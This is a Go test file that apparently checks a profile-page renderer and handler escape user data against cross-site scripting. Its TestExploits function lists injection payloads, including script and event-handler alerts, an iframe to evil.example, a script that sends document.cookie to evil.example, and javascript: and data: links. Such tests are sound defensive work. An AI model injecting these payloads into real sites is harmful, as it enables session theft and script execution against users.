package profile

import (
	"html"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

var (
	h1Re     = regexp.MustCompile(`(?s)<h1 class="name">(.*?)</h1>`)
	bioRe    = regexp.MustCompile(`(?s)<p class="bio">(.*?)</p>`)
	liRe     = regexp.MustCompile(`(?s)<li>(.*?)</li>`)
	scriptRe = regexp.MustCompile(`(?s)<script>(.*?)</script>`)
	jsRe     = regexp.MustCompile(`^var profileId = "((?:[^"\\<>]|\\.)*)";$`)
	hrefRe   = regexp.MustCompile(`href="([^"]*)"`)
)

var (
	tagRe   = regexp.MustCompile(`<(/?)([a-zA-Z0-9!]+)([^>]*)>`)
	attrsRe = regexp.MustCompile(`^(\s+(class|href|rel)="[^"<>]*")*\s*$`)
	allowed = map[string]bool{"!doctype": true, "html": true, "head": true, "title": true, "body": true, "h1": true, "p": true, "a": true, "ul": true, "li": true, "script": true}
)

// checkTags asserts the page holds only the template's own elements and
// attributes: user data created no element and no attribute.
func checkTags(t *testing.T, out string) {
	t.Helper()
	for _, m := range tagRe.FindAllStringSubmatch(out, -1) {
		name := strings.ToLower(m[2])
		if !allowed[name] {
			t.Errorf("unexpected element <%s%s>", m[2], m[3])
			continue
		}
		if name != "!doctype" && !attrsRe.MatchString(m[3]) {
			t.Errorf("unexpected attributes in <%s%s>", m[2], m[3])
		}
	}
}

func render(t *testing.T, p Profile) string {
	t.Helper()
	var sb strings.Builder
	if err := Render(&sb, p); err != nil {
		t.Fatal(err)
	}
	return sb.String()
}

func text(t *testing.T, re *regexp.Regexp, out string) []string {
	t.Helper()
	var res []string
	for _, m := range re.FindAllStringSubmatch(out, -1) {
		if strings.ContainsAny(m[1], "<>") {
			t.Errorf("markup inside a text field: %q", m[1])
		}
		res = append(res, html.UnescapeString(m[1]))
	}
	return res
}

func scriptID(t *testing.T, out string) string {
	t.Helper()
	ms := scriptRe.FindAllStringSubmatch(out, -1)
	if len(ms) != 1 || strings.Count(strings.ToLower(out), "<script") != 1 {
		t.Fatalf("want exactly one script element, page:\n%s", out)
	}
	m := jsRe.FindStringSubmatch(ms[0][1])
	if m == nil {
		t.Fatalf("script is not a single string assignment: %q", ms[0][1])
	}
	s, err := strconv.Unquote(`"` + strings.ReplaceAll(m[1], `\/`, `/`) + `"`)
	if err != nil {
		t.Fatalf("script string %q: %v", m[1], err)
	}
	return s
}

func TestExploits(t *testing.T) {
	payloads := []string{
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`"><svg onload=alert(1)>`,
		`</p><iframe src="//evil.example"></iframe>`,
		`</h1><script>document.location='//evil.example?c='+document.cookie</script>`,
	}
	for _, p := range payloads {
		out := render(t, Profile{ID: "u1", Name: p, Bio: p, Tags: []string{p}})
		checkTags(t, out)
		scriptID(t, out)
	}
	for _, id := range []string{`";alert(1);//`, `</script><script>alert(1)</script>`, `\";alert(1);//`, "u1\u2028alert(1)"} {
		out := render(t, Profile{ID: id, Name: "n"})
		if got := scriptID(t, out); got != id {
			t.Errorf("script id = %q, want %q", got, id)
		}
	}
	for _, u := range []string{"javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>", `https://x" onclick="alert(1)`} {
		out := render(t, Profile{ID: "u1", Name: "n", Homepage: u})
		for _, m := range hrefRe.FindAllStringSubmatch(out, -1) {
			h := strings.ToLower(strings.TrimSpace(html.UnescapeString(m[1])))
			if strings.HasPrefix(h, "javascript:") || strings.HasPrefix(h, "data:") {
				t.Errorf("homepage %q rendered as live link %q", u, m[1])
			}
		}
		checkTags(t, out)
	}
}

func TestGenerated(t *testing.T) {
	rng := rand.New(rand.NewPCG(79, 3))
	const alphabet = "ab Z<>&\"'/=;:()\\é"
	word := func() string {
		b := []rune{}
		for i := 0; i < 1+rng.IntN(16); i++ {
			b = append(b, []rune(alphabet)[rng.IntN(len([]rune(alphabet)))])
		}
		return string(b)
	}
	for i := 0; i < 150; i++ {
		p := Profile{ID: word(), Name: word(), Bio: word(), Tags: []string{word(), word()}}
		if rng.IntN(2) == 0 {
			p.Homepage = "https://example.org/" + strconv.Itoa(i) + "?a=1&b=2"
		}
		out := render(t, p)
		checkTags(t, out)
		if got := text(t, h1Re, out); len(got) != 1 || got[0] != p.Name {
			t.Fatalf("name %q rendered as %q", p.Name, got)
		}
		if got := text(t, bioRe, out); len(got) != 1 || got[0] != p.Bio {
			t.Fatalf("bio %q rendered as %q", p.Bio, got)
		}
		if got := text(t, liRe, out); len(got) != 2 || got[0] != p.Tags[0] || got[1] != p.Tags[1] {
			t.Fatalf("tags %q rendered as %q", p.Tags, got)
		}
		if got := scriptID(t, out); got != p.ID {
			t.Fatalf("id %q rendered as %q", p.ID, got)
		}
		if p.Homepage != "" {
			m := hrefRe.FindStringSubmatch(out)
			if m == nil || html.UnescapeString(m[1]) != p.Homepage {
				t.Fatalf("homepage %q rendered as %v", p.Homepage, m)
			}
		}
	}
}

func TestHandlerEscapes(t *testing.T) {
	profiles := map[string]Profile{
		"u1": {ID: "u1", Name: "<script>alert(1)</script>", Bio: "<img src=x onerror=alert(1)>"},
		"u2": {ID: "u2", Name: "Plain Name", Bio: "fine"},
	}
	h := Handler(func(id string) (Profile, bool) { p, ok := profiles[id]; return p, ok })
	for id, p := range profiles {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/?id="+id, nil))
		if rec.Code != http.StatusOK {
			t.Fatalf("GET %s = %d", id, rec.Code)
		}
		checkTags(t, rec.Body.String())
		if got := text(t, h1Re, rec.Body.String()); len(got) != 1 || got[0] != p.Name {
			t.Fatalf("GET %s: name rendered as %q", id, got)
		}
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/?id=nobody", nil))
	if rec.Code != http.StatusNotFound {
		t.Fatalf("unknown id = %d", rec.Code)
	}
}
